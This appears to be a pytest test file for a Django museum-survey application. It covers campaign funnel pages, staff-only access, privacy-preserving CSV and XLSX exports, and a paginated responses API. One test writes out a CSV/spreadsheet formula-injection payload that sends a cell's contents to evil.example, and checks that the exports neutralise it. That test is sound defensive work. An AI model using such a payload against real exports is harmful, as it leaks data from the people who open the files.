import pytest
from django.urls import reverse

from surveys.models import Campaign
from surveys.services.responses import response_submit
from tests.support.exports import read_csv, read_xlsx
from tests.surveys.factories import (
    CampaignFactory,
    InvitationFactory,
    invitation_with_link,
    survey_with_every_kind,
)

pytestmark = pytest.mark.django_db


def answered(campaign, score=8):
    invitation, _token = invitation_with_link(campaign=campaign)
    questions = {q.kind: q for q in campaign.survey.questions.all()}
    answers = {
        questions["nps"].pk: score,
        questions["rating"].pk: 4,
        questions["single"].pk: "family",
        questions["multiple"].pk: ["alone", "friends"],
        questions["text"].pk: "Goed, maar te druk",
    }
    return response_submit(invitation=invitation, answers=answers)


@pytest.fixture
def campaign():
    return CampaignFactory(survey=survey_with_every_kind())


def test_the_overview_shows_each_campaigns_funnel_in_a_fixed_number_of_queries(
    client, sofie, django_assert_max_num_queries
):
    client.force_login(sofie)
    for count in (1, 6):
        while Campaign.objects.count() < count:
            campaign = CampaignFactory()
            InvitationFactory(campaign=campaign)
            InvitationFactory(campaign=campaign, state="failed")
        with django_assert_max_num_queries(6):
            page = client.get(reverse("surveys:overview"))
        assert page.content.decode().count("/surveys/campaigns/") == count


def test_the_campaign_page_shows_the_funnel_and_response_rate(client, sofie, campaign):
    answered(campaign)
    InvitationFactory(campaign=campaign)  # sent, not answered
    InvitationFactory(campaign=campaign, state="failed", last_error="SMTPDataError: 451 later")
    client.force_login(sofie)
    html = client.get(reverse("surveys:campaign", args=[campaign.pk])).content.decode()
    assert "50 %" in html  # one response out of two delivered
    assert "SMTPDataError: 451 later" in html


def test_staff_pages_are_for_survey_managers(client, alice, charlie, campaign):
    for user in (alice, charlie):
        client.force_login(user)
        assert client.get(reverse("surveys:overview")).status_code == 403
        assert client.get(reverse("surveys:responses-csv", args=[campaign.pk])).status_code == 403


def test_responses_export_as_csv_with_the_questions_texts_and_no_identity(client, sofie, campaign):
    response = answered(campaign)
    client.force_login(sofie)
    export = client.get(reverse("surveys:responses-csv", args=[campaign.pk]))
    rows = read_csv(export, delimiter=";")  # sofie reads Dutch
    questions = list(campaign.survey.questions.order_by("position"))
    assert rows[0] == [
        "Antwoord",
        "Ingediend",
        "Museum",
        "Maand van het bezoek",
        "Taal",
        "Leeftijdsgroep",
        "Regio",
        *(q.text_nl for q in questions),
    ]
    assert rows[1][0] == str(response.pk)
    assert rows[1][2] == response.museum.name
    assert rows[1][4:7] == ["Nederlands", response.age_group, "Vlaanderen"]
    assert rows[1][7:] == ["8", "4", "Met familie", "Alleen; Met vrienden", "Goed, maar te druk"]
    holder = response.invitation.holder
    assert all(holder.email not in cell and holder.external_id not in cell for cell in rows[1])


def test_responses_export_in_english_uses_commas_and_english_texts(client, sofie, campaign):
    answered(campaign)
    client.force_login(sofie)
    client.cookies["django_language"] = "en"
    rows = read_csv(client.get(reverse("surveys:responses-csv", args=[campaign.pk])), delimiter=",")
    questions = list(campaign.survey.questions.order_by("position"))
    assert rows[0][:3] == ["Response", "Submitted", "Museum"]
    assert rows[0][7:] == [q.text_en for q in questions]
    assert rows[1][9:11] == ["With family", "Alone; With friends"]


def test_responses_export_as_xlsx_with_numbers_as_numbers(client, sofie, campaign):
    response = answered(campaign, score=9)
    client.force_login(sofie)
    rows = read_xlsx(client.get(reverse("surveys:responses-xlsx", args=[campaign.pk])))
    questions = list(campaign.survey.questions.order_by("position"))
    assert rows[0][2] == "Museum" and rows[0][7:] == [q.text_nl for q in questions]
    assert rows[1][0] == response.pk and rows[1][2] == response.museum.name
    assert rows[1][7:9] == [9, 4]
    assert all(isinstance(value, int) for value in rows[1][7:9])
    assert rows[1][9:] == ["Met familie", "Alleen; Met vrienden", "Goed, maar te druk"]


def test_the_responses_exports_neutralise_formulas_in_comments_and_museum_names(
    client, sofie, campaign
):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
    invitation, _token = invitation_with_link(campaign=campaign)
    invitation.museum.name = formula
    invitation.museum.save()
    questions = {q.kind: q for q in campaign.survey.questions.all()}
    response_submit(
        invitation=invitation,
        answers={
            questions["nps"].pk: 0,
            questions["rating"].pk: 1,
            questions["single"].pk: "family",
            questions["multiple"].pk: ["alone"],
            questions["text"].pk: formula,
        },
    )
    client.force_login(sofie)
    rows = read_csv(client.get(reverse("surveys:responses-csv", args=[campaign.pk])), delimiter=";")
    assert rows[1][2] == f"'{formula}"
    assert rows[1][7:] == ["0", "1", "Met familie", "Alleen", f"'{formula}"]
    sheet = read_xlsx(client.get(reverse("surveys:responses-xlsx", args=[campaign.pk])))
    assert sheet[1][2] == f"'{formula}" and sheet[1][-1] == f"'{formula}"


def test_the_responses_api_is_cursor_paginated_in_a_fixed_number_of_queries(
    client, sofie, campaign, django_assert_num_queries
):
    client.force_login(sofie)
    for total in (2, 7):
        while campaign.response_set.count() < total:
            answered(campaign)
        # session, user, roles, the page of responses, their answers
        with django_assert_num_queries(5):
            page = client.get("/api/surveys/responses/?page_size=5").json()
        assert len(page["results"]) == min(total, 5)
    first = page["results"][0]
    assert list(first) == [
        "id",
        "submitted_at",
        "survey",
        "campaign",
        "museum",
        "visit_month",
        "language",
        "age_group",
        "region",
        "answers",
    ]
    assert "holder" not in str(first) and "invitation" not in str(first)
    following = client.get(page["next"]).json()
    assert len(following["results"]) == 2 and following["next"] is None


def test_the_responses_api_is_for_publiq_staff_only(client, charlie, alice):
    assert client.get("/api/surveys/responses/").status_code in (401, 403)
    client.force_login(charlie)
    assert client.get("/api/surveys/responses/").status_code == 403
    client.force_login(alice)
    assert client.get("/api/surveys/responses/").status_code == 200
